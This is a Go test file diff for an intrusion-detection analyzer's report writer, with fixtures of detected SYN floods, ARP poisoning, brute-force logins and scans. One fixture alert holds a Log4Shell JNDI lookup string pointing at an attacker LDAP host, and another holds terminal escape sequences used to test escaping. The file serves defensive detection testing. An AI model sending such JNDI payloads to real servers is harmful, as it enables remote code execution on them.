@@ -7,6 +7,7 @@ import (
 	"flag"
 	"fmt"
 	"io"
+	"net/netip"
 	"os"
 	"path/filepath"
 	"reflect"
@@ -21,12 +22,12 @@ import (
 var update = flag.Bool("update", false, "rewrite testdata/*.golden from the current output")
 
 // at is a packet time on the day the rich capture was taken.
-func at(hms string) time.Time {
+func at(hms string) analyzer.Time {
 	t, err := time.Parse(time.RFC3339Nano, "2024-03-05T"+hms+"Z")
 	if err != nil {
 		panic(err)
 	}
-	return t
+	return analyzer.TimeOf(t)
 }
 
 func loc(file string, n uint64) analyzer.PacketLocation {
@@ -55,7 +56,7 @@ func richResult() *analyzer.Result {
 			Bytes:     31457893,
 			FirstTime: at("09:58:01.123456789"),
 			LastTime:  at("10:41:17.5"),
-			Span:      packet.Duration(at("10:41:17.5").Sub(at("09:58:01.123456789"))),
+			Span:      packet.Duration(at("10:41:17.5").Sub(at("09:58:01.123456789").Time)),
 			Undecoded: 19,
 			DecodeErrors: []analyzer.ReasonCount{
 				{Reason: "truncated tcp header", Count: 12},
@@ -87,92 +88,92 @@ func richResult() *analyzer.Result {
 				Description: "Many TCP SYNs to one service without completed handshakes.",
 				Count:       2, First: at("10:02:00.25"), Last: at("10:09:30"),
 				FirstPacket: loc(day1, 5120), LastPacket: loc(day1, 9874),
-				Attackers: []string{"2001:db8::bad", "(spoofed sources)"}, Victims: []string{"10.0.0.10", "2001:db8::10"}},
+				Attackers: testHosts("2001:db8::bad", "(spoofed sources)"), Victims: testHosts("10.0.0.10", "2001:db8::10")},
 			{SID: 9000003, Name: "Attack: ARP Cache Poisoning", Severity: "high", Category: "spoofing",
 				Description: "ARP traffic that rebinds an IP address to another MAC address.",
 				Count:       1, First: at("10:12:44.001"), Last: at("10:12:44.001"),
 				FirstPacket: loc(day1, 20011), LastPacket: loc(day1, 20011),
-				Attackers: []string{"10.0.0.66"}, Victims: []string{"10.0.0.1"}},
+				Attackers: testHosts("10.0.0.66"), Victims: testHosts("10.0.0.1")},
 			{SID: 9000004, Name: "Attack: Brute Force Remote Login", Severity: "high", Category: "credential-access",
 				Description: "Many failed or short login attempts from one source.",
 				Count:       2, First: at("10:14:03"), Last: at("10:31:40"),
 				FirstPacket: loc(day1, 24100), LastPacket: loc(day2, 7002),
-				Attackers: []string{"10.0.0.66"}, Victims: []string{"10.0.0.20", "10.0.0.21"}},
+				Attackers: testHosts("10.0.0.66"), Victims: testHosts("10.0.0.20", "10.0.0.21")},
 			{SID: 1000042, Name: "Exploit: Log4j JNDI lookup (Log4Shell)", Severity: "high", Category: "exploit",
 				Description: "A ${jndi:...} lookup string in an HTTP request.",
 				CVEs:        []string{"CVE-2021-44228", "CVE-2021-45046"}, Advice: "patch the affected application first",
 				Count: 1, First: at("10:33:05.75"), Last: at("10:33:05.75"),
 				FirstPacket: loc(day2, 8190), LastPacket: loc(day2, 8190),
-				Attackers: []string{"203.0.113.7"}, Victims: []string{"10.0.0.30"}},
+				Attackers: testHosts("203.0.113.7"), Victims: testHosts("10.0.0.30")},
 			{SID: 9000002, Name: "Attack: Port Scan", Severity: "medium", Category: "reconnaissance",
 				Description: "One source probing many ports or hosts.",
-				Count:       3, First: at("09:59:00"), Last: at("10:40:00").In(cet),
+				Count:       3, First: at("09:59:00"), Last: analyzer.TimeOf(at("10:40:00").In(cet)),
 				FirstPacket: loc(day1, 310), LastPacket: loc(day2, 16990),
-				Attackers: []string{"10.0.0.50", "192.168.56.101"},
-				Victims: []string{"10.0.0.1", "10.0.0.10", "10.0.0.20", "10.0.0.21", "10.0.0.30",
+				Attackers: testHosts("10.0.0.50", "192.168.56.101"),
+				Victims: testHosts("10.0.0.1", "10.0.0.10", "10.0.0.20", "10.0.0.21", "10.0.0.30",
 					"10.0.0.31", "10.0.0.32", "10.0.0.33", "10.0.0.34", "10.0.0.35", "10.0.0.36", "10.0.0.37",
-					"10.0.0.38", "10.0.0.39", "10.0.0.40"},
+					"10.0.0.38", "10.0.0.39", "10.0.0.40"),
 				MoreVictims: true},
 		},
 		Alerts: []analyzer.Alert{
 			{SID: 9000002, Name: "Attack: Port Scan", Severity: "medium", Time: at("09:59:00"),
-				Attacker: "10.0.0.50", Victim: "10.0.0.0/24", Proto: "TCP", Kind: "sweep",
+				Attacker: netip.MustParseAddr("10.0.0.50"), Victim: analyzer.MustParseHost("10.0.0.0/24"), Proto: "TCP", Kind: "sweep",
 				Detail: "254 hosts on port 22 in 12s", Count: 254, First: at("09:59:00"), Last: at("09:59:12"),
 				FirstPacket: loc(day1, 310), LastPacket: loc(day1, 822)},
 			{SID: 9000001, Name: "Attack: TCP SYN Flood", Severity: "high", Time: at("10:02:00.25"),
-				Victim: "10.0.0.10", VictimPort: 443, Proto: "TCP", Kind: "spoofed",
+				Victim: analyzer.MustParseHost("10.0.0.10"), VictimPort: 443, Proto: "TCP", Kind: "spoofed",
 				Detail: "4,812 SYNs from 3,977 sources, 0.3% completed", Count: 4812,
 				First: at("10:02:00.25"), Last: at("10:02:05"),
 				FirstPacket: loc(day1, 5120), LastPacket: loc(day1, 9931),
-				Spoofed: true, Sources: []string{"198.51.100.4", "198.51.100.77", "203.0.113.200", "192.0.2.19"}},
+				Spoofed: true, Sources: testAddrs("198.51.100.4", "198.51.100.77", "203.0.113.200", "192.0.2.19")},
 			{SID: 9000001, Name: "Attack: TCP SYN Flood", Severity: "high", Time: at("10:09:30"),
-				Attacker: "2001:db8::bad", Victim: "2001:db8::10", VictimPort: 80, Proto: "TCP", Kind: "single-source",
+				Attacker: netip.MustParseAddr("2001:db8::bad"), Victim: analyzer.MustParseHost("2001:db8::10"), VictimPort: 80, Proto: "TCP", Kind: "single-source",
 				Detail: "900 SYNs in 5s, 0 completed", Count: 900,
 				First: at("10:09:30"), Last: at("10:09:35"),
 				FirstPacket: loc(day1, 9874), LastPacket: loc(day1, 10774), Blocked: true},
 			{SID: 9000003, Name: "Attack: ARP Cache Poisoning", Severity: "high", Time: at("10:12:44.001"),
-				Attacker: "10.0.0.66", AttackerMAC: "02:42:ac:11:00:66", Victim: "10.0.0.1", Proto: "ARP",
+				Attacker: netip.MustParseAddr("10.0.0.66"), AttackerMAC: testMAC("02:42:ac:11:00:66"), Victim: analyzer.MustParseHost("10.0.0.1"), Proto: "ARP",
 				Kind: "gateway-claim", Detail: "10.0.0.1 rebound from 00:11:22:33:44:55 to 02:42:ac:11:00:66",
 				Count: 1, First: at("10:12:44.001"), Last: at("10:12:44.001"),
 				FirstPacket: loc(day1, 20011), LastPacket: loc(day1, 20011), Blocked: true,
-				ARP: &analyzer.ARPPacket{SenderIP: "10.0.0.1", TargetIP: "10.0.0.20", SrcMAC: "02:42:ac:11:00:66", DestMAC: "00:16:3e:00:00:20"}},
+				ARP: &analyzer.ARPPacket{SenderIP: netip.MustParseAddr("10.0.0.1"), TargetIP: netip.MustParseAddr("10.0.0.20"), SrcMAC: testMAC("02:42:ac:11:00:66"), DestMAC: testMAC("00:16:3e:00:00:20")}},
 			{SID: 9000004, Name: "Attack: Brute Force Remote Login", Severity: "high", Time: at("10:14:03"),
-				Attacker: "10.0.0.66", Victim: "10.0.0.20", VictimPort: 22, Proto: "TCP", Kind: "ssh",
+				Attacker: netip.MustParseAddr("10.0.0.66"), Victim: analyzer.MustParseHost("10.0.0.20"), VictimPort: 22, Proto: "TCP", Kind: "ssh",
 				Detail: "31 short connections in 60s", Count: 31, First: at("10:13:03"), Last: at("10:14:03"),
 				FirstPacket: loc(day1, 23050), LastPacket: loc(day1, 24100), Blocked: true},
 			{SID: 9000004, Name: "Attack: Brute Force Remote Login", Severity: "high", Time: at("10:31:40"),
-				Attacker: "10.0.0.66", Victim: "10.0.0.21", VictimPort: 21, Proto: "TCP", Kind: "ftp",
+				Attacker: netip.MustParseAddr("10.0.0.66"), Victim: analyzer.MustParseHost("10.0.0.21"), VictimPort: 21, Proto: "TCP", Kind: "ftp",
 				Detail: "USER \x1b[31mroot\x1b[0m\r\n: 40 failed logins in 2m0s, last from a client banner that is far too long to show",
 				Count:  40, First: at("10:29:40"), Last: at("10:31:40"),
 				FirstPacket: loc(day1, 29990), LastPacket: loc(day2, 7002), Blocked: true},
 			{SID: 1000042, Name: "Exploit: Log4j JNDI lookup (Log4Shell)", Severity: "high", Time: at("10:33:05.75"),
-				Attacker: "203.0.113.7", Victim: "10.0.0.30", VictimPort: 8080, Proto: "TCP",
+				Attacker: netip.MustParseAddr("203.0.113.7"), Victim: analyzer.MustParseHost("10.0.0.30"), VictimPort: 8080, Proto: "TCP",
 				Detail: "GET /?x=${jndi:ldap://203.0.113.7/a}", Count: 1,
 				First: at("10:33:05.75"), Last: at("10:33:05.75"),
 				FirstPacket: loc(day2, 8190), LastPacket: loc(day2, 8190), Blocked: true},
 			{SID: 9000002, Name: "Attack: Port Scan", Severity: "medium", Time: at("10:38:12"),
-				Attacker: "192.168.56.101", AttackerMAC: "08:00:27:4e:aa:01", Victim: "10.0.0.255", Proto: "UDP",
+				Attacker: netip.MustParseAddr("192.168.56.101"), AttackerMAC: testMAC("08:00:27:4e:aa:01"), Victim: analyzer.MustParseHost("10.0.0.255"), Proto: "UDP",
 				Kind: "sweep", Detail: "NetBIOS/mDNS discovery to 41 hosts", Count: 41,
 				First: at("10:37:50"), Last: at("10:38:12"),
 				FirstPacket: loc(day2, 15001), LastPacket: loc(day2, 15410)},
-			{SID: 9000002, Name: "Attack: Port Scan", Severity: "medium", Time: at("10:40:00").In(cet),
-				Attacker: "203.0.113.7", Victim: "10.0.0.30", Proto: "TCP", Kind: "vertical",
+			{SID: 9000002, Name: "Attack: Port Scan", Severity: "medium", Time: analyzer.TimeOf(at("10:40:00").In(cet)),
+				Attacker: netip.MustParseAddr("203.0.113.7"), Victim: analyzer.MustParseHost("10.0.0.30"), Proto: "TCP", Kind: "vertical",
 				Detail: "1,000 ports in 4s", Count: 1000, First: at("10:39:56"), Last: at("10:40:00"),
 				FirstPacket: loc(day2, 15990), LastPacket: loc(day2, 16990)},
 		},
 		Blocks: []analyzer.BlockedHost{
-			{Host: "10.0.0.66", FirstBlock: at("10:12:44.001"), LastUnblock: at("10:41:40"),
+			{Host: analyzer.MustParseHost("10.0.0.66"), FirstBlock: at("10:12:44.001"), LastUnblock: at("10:41:40"),
 				Blocks: 2, Extensions: 1, TotalBlocked: packet.Duration(21*time.Minute + 2*time.Second),
 				DroppedPackets: 1893, DroppedBytes: 402118, SIDs: []uint32{9000003, 9000004}},
-			{Host: "203.0.113.7", FirstBlock: at("10:33:05.75"), LastUnblock: at("10:43:05.75"),
+			{Host: analyzer.MustParseHost("203.0.113.7"), FirstBlock: at("10:33:05.75"), LastUnblock: at("10:43:05.75"),
 				Blocks: 1, Extensions: 0, TotalBlocked: packet.Duration(10 * time.Minute),
 				DroppedPackets: 1001, DroppedBytes: 60060, SIDs: []uint32{1000042}},
-			{Host: "2001:db8::bad", FirstBlock: at("10:09:30"), LastUnblock: at("10:19:30"),
+			{Host: analyzer.MustParseHost("2001:db8::bad"), FirstBlock: at("10:09:30"), LastUnblock: at("10:19:30"),
 				Blocks: 1, TotalBlocked: packet.Duration(10 * time.Minute),
 				DroppedPackets: 0, DroppedBytes: 0, SIDs: []uint32{9000001}},
 		},
 		FalsePositives: []analyzer.FalsePositive{
-			{Host: "10.0.0.50", MAC: "00:50:56:01:02:03", Verdict: "scanner", Confidence: "high",
+			{Host: analyzer.MustParseHost("10.0.0.50"), MAC: testMAC("00:50:56:01:02:03"), Verdict: "scanner", Confidence: "high",
 				Reason: "internal host probing many hosts and ports, as vulnerability scanners do",
 				Evidence: []string{
 					"internal address 10.0.0.50",
@@ -181,7 +182,7 @@ func richResult() *analyzer.Result {
 					"254 probes in all; no flooding or ARP poisoning",
 				},
 				Alerts: 1, Exclusion: "10.0.0.50 # internal scanner: 1 alerts"},
-			{Host: "192.168.56.101", MAC: "08:00:27:4e:aa:01", Verdict: "guest-vm", Confidence: "medium",
+			{Host: analyzer.MustParseHost("192.168.56.101"), MAC: testMAC("08:00:27:4e:aa:01"), Verdict: "guest-vm", Confidence: "medium",
 				Reason: "VirtualBox guest VM bridged on the LAN: its address moved between virtual NICs",
 				Evidence: []string{
 					"MAC 08:00:27:4e:aa:01 has a VirtualBox OUI (08:00:27)",
@@ -191,14 +192,14 @@ func richResult() *analyzer.Result {
 				Alerts: 2, Exclusion: "08:00:27:4e:aa:01 # guest VM (VirtualBox), 192.168.56.101"},
 		},
 		Investigate: []analyzer.Investigation{
-			{Host: "10.0.0.66", MAC: "3c:97:0e:aa:bb:cc",
+			{Host: analyzer.MustParseHost("10.0.0.66"), MAC: testMAC("3c:97:0e:aa:bb:cc"),
 				Reason: "internal host that poisons ARP caches: scanners probe, they do not flood or poison ARP caches; an attacker or a compromised host",
 				Evidence: []string{
 					"claimed the gateway 10.0.0.1 for 3c:97:0e:aa:bb:cc (14 claims)",
 					"8 failed ssh logins against 10.0.0.22:22",
 				},
 				Alerts: 2, SIDs: []uint32{9000003, 9000004}},
-			{Host: "203.0.113.7",
+			{Host: analyzer.MustParseHost("203.0.113.7"),
 				Reason:   "outside address: never presumed benign; a real attacker or a compromised host",
 				Evidence: []string{"outside address 203.0.113.7", "vertical port scan of 1 host (10.0.0.30)"},
 				Alerts:   2, SIDs: []uint32{1000042, 9000002}},
@@ -250,7 +251,7 @@ func golden(t *testing.T, name string, got []byte) {
 
 func TestGolden(t *testing.T) {
 	for _, c := range cases {
-		for _, f := range Formats() {
+		for _, f := range Formats(Report) {
 			t.Run(c.name+"/"+string(f), func(t *testing.T) {
 				r := c.result()
 				var buf bytes.Buffer
@@ -331,7 +332,7 @@ func TestTableAlertCap(t *testing.T) {
 	r.Alerts = nil
 	for i := range MaxAlertRows + 7 {
 		a := base
-		a.Time = a.Time.Add(time.Duration(i) * time.Second)
+		a.Time = analyzer.TimeOf(a.Time.Add(time.Duration(i) * time.Second))
 		a.Detail = fmt.Sprintf("alert %d", i)
 		r.Alerts = append(r.Alerts, a)
 	}
@@ -367,71 +368,45 @@ func TestTableAutoblockDisabled(t *testing.T) {
 	}
 }
 
-// normalized is what r should read back as from the JSON report: schema
-// filled, nil slices empty (alert sources, which is omitempty, the other
-// way round), times in UTC.
+// normalized is what r should read back as from the JSON report: the
+// document jsonDoc makes (schema filled, nil slices empty), with alert
+// sources the other way round (omitempty) and times in UTC.
 func normalized(r *analyzer.Result) analyzer.Result {
-	n := *r
-	if n.Schema == "" {
-		n.Schema = analyzer.SchemaVersion
-	}
+	n := jsonDoc(r)
 	s := &n.Summary
-	s.FirstTime, s.LastTime = s.FirstTime.UTC(), s.LastTime.UTC()
-	s.DecodeErrors = reasons(s.DecodeErrors)
-	s.Evictions = reasons(s.Evictions)
-	s.Exclusions = append([]analyzer.ExclusionUse{}, s.Exclusions...)
-	s.Packs = strs(s.Packs)
-	n.Files = append([]analyzer.FileSummary{}, r.Files...)
+	s.FirstTime, s.LastTime = utcTime(s.FirstTime), utcTime(s.LastTime)
 	for i := range n.Files {
 		f := &n.Files[i]
-		f.LinkTypes = strs(f.LinkTypes)
-		f.First, f.Last = f.First.UTC(), f.Last.UTC()
+		f.First, f.Last = utcTime(f.First), utcTime(f.Last)
 	}
-	n.Signatures = append([]analyzer.SignatureHit{}, r.Signatures...)
 	for i := range n.Signatures {
 		h := &n.Signatures[i]
-		h.CVEs, h.Attackers, h.Victims = strs(h.CVEs), strs(h.Attackers), strs(h.Victims)
-		h.First, h.Last = h.First.UTC(), h.Last.UTC()
+		h.First, h.Last = utcTime(h.First), utcTime(h.Last)
 	}
 	normAlert := func(a *analyzer.Alert) {
 		if len(a.Sources) == 0 {
 			a.Sources = nil
 		}
-		a.Time, a.First, a.Last = a.Time.UTC(), a.First.UTC(), a.Last.UTC()
+		a.Time, a.First, a.Last = utcTime(a.Time), utcTime(a.First), utcTime(a.Last)
 	}
-	n.Alerts = append([]analyzer.Alert{}, r.Alerts...)
+	n.Alerts = append([]analyzer.Alert{}, n.Alerts...)
 	for i := range n.Alerts {
 		normAlert(&n.Alerts[i])
 	}
-	n.Events = append([]analyzer.Event{}, r.Events...)
+	n.Events = append([]analyzer.Event{}, n.Events...)
 	for i := range n.Events {
 		ev := &n.Events[i]
-		ev.Time, ev.Until = ev.Time.UTC(), ev.Until.UTC()
+		ev.Time, ev.Until = utcTime(ev.Time), utcTime(ev.Until)
 		if ev.Alert != nil {
 			a := *ev.Alert
 			normAlert(&a)
 			ev.Alert = &a
 		}
 	}
-	n.Blocks = append([]analyzer.BlockedHost{}, r.Blocks...)
 	for i := range n.Blocks {
 		b := &n.Blocks[i]
-		if b.SIDs == nil {
-			b.SIDs = []uint32{}
-		}
-		b.FirstBlock, b.LastUnblock = b.FirstBlock.UTC(), b.LastUnblock.UTC()
+		b.FirstBlock, b.LastUnblock = utcTime(b.FirstBlock), utcTime(b.LastUnblock)
 	}
-	n.FalsePositives = append([]analyzer.FalsePositive{}, r.FalsePositives...)
-	for i := range n.FalsePositives {
-		n.FalsePositives[i].Evidence = strs(n.FalsePositives[i].Evidence)
-		n.FalsePositives[i].SIDs = sidsJSON(n.FalsePositives[i].SIDs)
-	}
-	n.Investigate = append([]analyzer.Investigation{}, r.Investigate...)
-	for i := range n.Investigate {
-		n.Investigate[i].Evidence = strs(n.Investigate[i].Evidence)
-		n.Investigate[i].SIDs = sidsJSON(n.Investigate[i].SIDs)
-	}
-	n.Warnings = strs(r.Warnings)
 	return n
 }
 
@@ -462,9 +437,9 @@ func TestJSONNilSlicesAndZeroTimes(t *testing.T) {
 	r := &analyzer.Result{
 		Files:          []analyzer.FileSummary{{Path: "a.pcap"}},
 		Signatures:     []analyzer.SignatureHit{{SID: 1}},
-		Alerts:         []analyzer.Alert{{SID: 1, Sources: []string{}}},
-		Blocks:         []analyzer.BlockedHost{{Host: "10.0.0.1"}},
-		FalsePositives: []analyzer.FalsePositive{{Host: "10.0.0.2"}},
+		Alerts:         []analyzer.Alert{{SID: 1, Sources: testAddrs()}},
+		Blocks:         []analyzer.BlockedHost{{Host: analyzer.MustParseHost("10.0.0.1")}},
+		FalsePositives: []analyzer.FalsePositive{{Host: analyzer.MustParseHost("10.0.0.2")}},
 	}
 	var buf bytes.Buffer
 	if err := WriteJSON(&buf, r); err != nil {
@@ -526,27 +501,8 @@ func TestJSONNilSlicesAndZeroTimes(t *testing.T) {
 }
 
 func TestJSONTimes(t *testing.T) {
-	zone := time.FixedZone("X", -5*3600)
-	tests := []struct {
-		in   time.Time
-		want string
-	}{
-		{time.Time{}, `null`},
-		{time.Date(2024, 3, 5, 10, 0, 0, 0, time.UTC), `"2024-03-05T10:00:00.000000000Z"`},
-		{time.Date(2024, 3, 5, 5, 0, 0, 1500, zone), `"2024-03-05T10:00:00.000001500Z"`},
-		{time.Unix(0, 0), `"1970-01-01T00:00:00.000000000Z"`},
-	}
-	for _, tt := range tests {
-		got, err := jsonTime(tt.in).MarshalJSON()
-		if err != nil || string(got) != tt.want {
-			t.Errorf("%v: got %s, %v; want %s", tt.in, got, err, tt.want)
-		}
-	}
-	if _, err := jsonTime(time.Date(10000, 1, 1, 0, 0, 0, 0, time.UTC)).MarshalJSON(); err == nil {
-		t.Error("year 10000: want an error")
-	}
 	r := emptyResult()
-	r.Summary.LastTime = time.Date(12000, 1, 1, 0, 0, 0, 0, time.UTC)
+	r.Summary.LastTime = analyzer.TimeOf(time.Date(12000, 1, 1, 0, 0, 0, 0, time.UTC))
 	var buf bytes.Buffer
 	if err := WriteJSON(&buf, r); err == nil {
 		t.Error("WriteJSON with year 12000: want an error")
@@ -555,74 +511,48 @@ func TestJSONTimes(t *testing.T) {
 	}
 }
 
-// TestJSONMirrorsResult keeps the json* mirror types in step with the
-// analyzer types: same fields, same order, same tags, and the same types
-// except time.Time -> jsonTime and nested types -> their mirrors. A field
-// added to analyzer.Result fails here until json.go renders it.
-func TestJSONMirrorsResult(t *testing.T) {
-	mirrors := map[reflect.Type]reflect.Type{
-		reflect.TypeFor[time.Time]():             reflect.TypeFor[jsonTime](),
-		reflect.TypeFor[analyzer.Result]():       reflect.TypeFor[jsonResult](),
-		reflect.TypeFor[analyzer.Summary]():      reflect.TypeFor[jsonSummary](),
-		reflect.TypeFor[analyzer.FileSummary]():  reflect.TypeFor[jsonFileSummary](),
-		reflect.TypeFor[analyzer.SignatureHit](): reflect.TypeFor[jsonSignatureHit](),
-		reflect.TypeFor[analyzer.Alert]():        reflect.TypeFor[jsonAlert](),
-		reflect.TypeFor[analyzer.BlockedHost]():  reflect.TypeFor[jsonBlockedHost](),
-		reflect.TypeFor[analyzer.Event]():        reflect.TypeFor[jsonEvent](),
-	}
-	var same func(a, m reflect.Type) bool
-	same = func(a, m reflect.Type) bool {
-		if a == reflect.TypeFor[time.Time]() && m.Kind() == reflect.Pointer {
-			return m.Elem() == reflect.TypeFor[jsonTime]() // an optional time, left out when zero
-		}
-		if want, ok := mirrors[a]; ok {
-			return m == want
-		}
-		if a.Kind() == reflect.Slice && m.Kind() == reflect.Slice || a.Kind() == reflect.Pointer && m.Kind() == reflect.Pointer {
-			return same(a.Elem(), m.Elem())
-		}
-		return a == m
-	}
-	for a, m := range mirrors {
-		if a.Kind() != reflect.Struct || a == reflect.TypeFor[time.Time]() {
-			continue
-		}
-		if a.NumField() != m.NumField() {
-			t.Errorf("%v has %d fields, %v has %d", a, a.NumField(), m, m.NumField())
-			continue
-		}
-		for i := range a.NumField() {
-			af, mf := a.Field(i), m.Field(i)
-			if af.Name != mf.Name || af.Tag != mf.Tag || !same(af.Type, mf.Type) {
-				t.Errorf("%v field %d is %s %v `%s`, %v has %s %v `%s`",
-					a, i, af.Name, af.Type, af.Tag, m, mf.Name, mf.Type, mf.Tag)
+// TestJSONDocFillsEverySlice keeps jsonDoc in step with analyzer.Result: a
+// Result whose every struct appears once with every slice nil must come
+// out with no nil slice but the omitempty ones, so a slice field added to
+// the Result fails here until jsonDoc makes it render as [].
+func TestJSONDocFillsEverySlice(t *testing.T) {
+	var fill func(v reflect.Value)
+	fill = func(v reflect.Value) {
+		for i := range v.NumField() {
+			f := v.Field(i)
+			if f.Kind() == reflect.Slice && f.Type().Elem().Kind() == reflect.Struct && v.Type().Field(i).IsExported() {
+				f.Set(reflect.MakeSlice(f.Type(), 1, 1))
+				if f.Type().Elem().PkgPath() == reflect.TypeFor[analyzer.Result]().PkgPath() {
+					fill(f.Index(0))
+				}
+			} else if f.Kind() == reflect.Struct && f.Type().PkgPath() == reflect.TypeFor[analyzer.Result]().PkgPath() {
+				fill(f)
 			}
 		}
 	}
-	// Types used as they are must hold no time.Time or slices that could
-	// render as null.
-	for _, typ := range []reflect.Type{
-		reflect.TypeFor[analyzer.ReasonCount](),
-		reflect.TypeFor[analyzer.PacketLocation](),
-		reflect.TypeFor[analyzer.ExclusionUse](),
-		reflect.TypeFor[analyzer.ARPPacket](),
-	} {
-		for i := range typ.NumField() {
-			if k := typ.Field(i).Type; k == reflect.TypeFor[time.Time]() || k.Kind() == reflect.Slice {
-				t.Errorf("%v.%s needs a mirror type in json.go", typ, typ.Field(i).Name)
+	var r analyzer.Result
+	fill(reflect.ValueOf(&r).Elem())
+	var check func(path string, v reflect.Value)
+	check = func(path string, v reflect.Value) {
+		for i := range v.NumField() {
+			sf, f := v.Type().Field(i), v.Field(i)
+			name := path + "." + sf.Name
+			switch {
+			case f.Kind() == reflect.Slice:
+				if f.IsNil() && !strings.Contains(sf.Tag.Get("json"), "omitempty") {
+					t.Errorf("%s is nil: it would render as null", name)
+				}
+				for j := range f.Len() {
+					if f.Index(j).Kind() == reflect.Struct {
+						check(name, f.Index(j))
+					}
+				}
+			case f.Kind() == reflect.Struct && f.Type().PkgPath() == reflect.TypeFor[analyzer.Result]().PkgPath():
+				check(name, f)
 			}
 		}
 	}
-	// FalsePositive and Investigation are used as they are with Evidence
-	// and SIDs copied; only those slices.
-	for _, typ := range []reflect.Type{reflect.TypeFor[analyzer.FalsePositive](), reflect.TypeFor[analyzer.Investigation]()} {
-		for i := range typ.NumField() {
-			f := typ.Field(i)
-			if (f.Type.Kind() == reflect.Slice && f.Name != "Evidence" && f.Name != "SIDs") || f.Type == reflect.TypeFor[time.Time]() {
-				t.Errorf("%v.%s needs handling in toJSON", typ, f.Name)
-			}
-		}
-	}
+	check("Result", reflect.ValueOf(jsonDoc(&r)))
 }
 
 func TestParseFormat(t *testing.T) {
@@ -656,7 +586,7 @@ func TestWriteErrors(t *testing.T) {
 	if err := Write(&buf, richResult(), Format("xml")); err == nil || !strings.Contains(err.Error(), "table, json or eve") {
 		t.Errorf("unknown format: got %v", err)
 	}
-	for _, f := range Formats() {
+	for _, f := range Formats(Report) {
 		if err := Write(&buf, nil, f); !errors.Is(err, errNilResult) {
 			t.Errorf("%s of nil: got %v, want errNilResult", f, err)
 		}
@@ -665,7 +595,7 @@ func TestWriteErrors(t *testing.T) {
 		t.Errorf("failed writes wrote %q", buf.String())
 	}
 	werr := errors.New("disk full")
-	for _, f := range Formats() {
+	for _, f := range Formats(Report) {
 		if err := Write(failWriter{werr}, richResult(), f); !errors.Is(err, werr) {
 			t.Errorf("%s to a failing writer: got %v", f, err)
 		}
@@ -699,26 +629,56 @@ func TestHelpers(t *testing.T) {
 		{humanBytes(18446744073709551615), "18.4 EB"},
 		{bytesExact(512), "512 B"},
 		{bytesExact(1234567), "1.2 MB (1,234,567 bytes)"},
-		{hostList(nil, 3, false), "-"},
-		{hostList([]string{"a", "b"}, 3, false), "a, b"},
-		{hostList([]string{"a", "b", "c", "d", "e"}, 3, false), "a, b, c +2 more"},
-		{hostList([]string{"a", "b", "c", "d"}, 3, true), "a, b, c +1 more and others"},
-		{hostList([]string{"a"}, 3, true), "a and others"},
+		{hostList([]analyzer.Host(nil), 3, false), "-"},
+		{hostList(names("a", "b"), 3, false), "a, b"},
+		{hostList(names("a", "b", "c", "d", "e"), 3, false), "a, b, c +2 more"},
+		{hostList(names("a", "b", "c", "d"), 3, true), "a, b, c +1 more and others"},
+		{hostList(names("a"), 3, true), "a and others"},
 		{packetRange(loc("a", 1), loc("a", 1)), "a#1"},
 		{packetRange(loc("a", 1), loc("a", 9)), "a#1..#9"},
 		{packetRange(loc("a", 1), loc("b", 2)), "a#1..b#2"},
 		{packetRange(loc("", 0), loc("", 0)), "-"},
-		{endpoint("10.0.0.1", 80, "tcp"), "10.0.0.1:80/tcp"},
-		{endpoint("2001:db8::1", 443, ""), "[2001:db8::1]:443"},
-		{endpoint("10.0.0.1", 0, "icmp"), "10.0.0.1 (icmp)"},
-		{endpoint("", 0, ""), "-"},
+		{endpoint(analyzer.MustParseHost("10.0.0.1"), 80, "tcp"), "10.0.0.1:80/tcp"},
+		{endpoint(analyzer.MustParseHost("2001:db8::1"), 443, ""), "[2001:db8::1]:443"},
+		{endpoint(analyzer.MustParseHost("10.0.0.1"), 0, "icmp"), "10.0.0.1 (icmp)"},
+		{endpoint(analyzer.Host{}, 0, ""), "-"},
 		{duration(packet.Duration(43*time.Minute + 16376543211)), "43m16.377s"},
 		{duration(packet.Duration(1500)), "1.5us"},
 		{duration(0), "0s"},
-		{tableTime(time.Time{}), "-"},
+		{tableTime(analyzer.Time{}), "-"},
 	} {
 		if tt.got != tt.want {
 			t.Errorf("got %q, want %q", tt.got, tt.want)
+		}
+	}
+}
+
+// utcTime is t in UTC, as the JSON report reads back.
+func utcTime(t analyzer.Time) analyzer.Time { return analyzer.TimeOf(t.UTC()) }
+
+// name is a host list entry for hostList's tests.
+type name string
+
+func (n name) String() string { return string(n) }
+
+func names(ns ...name) []name { return ns }
+
+func TestEscapeStyles(t *testing.T) {
+	in := "a\"\\\a\t\n\x1b\x7f\xff\u00e9\U0001F600"
+	tests := []struct {
+		style escapeStyle
+		want  string
+	}{
+		{escapeTable, `a"\\x07\t\n\x1b\x7f\xff\u00e9\U0001f600`},
+		{escapeLine, `a"\\a\t\n\x1b\x7f\xff\u00e9\U0001f600`},
+		{escapeQuoted, `a\"\\\a\t\n\x1b\x7f\xff\u00e9\U0001f600`},
+	}
+	for _, tt := range tests {
+		if got := escape(in, tt.style); got != tt.want {
+			t.Errorf("style %d: got %s, want %s", tt.style, got, tt.want)
+		}
+		if got := escape("printable \"as is\" \\", tt.style); got != "printable \"as is\" \\" {
+			t.Errorf("style %d changed printable text: %s", tt.style, got)
 		}
 	}
 }
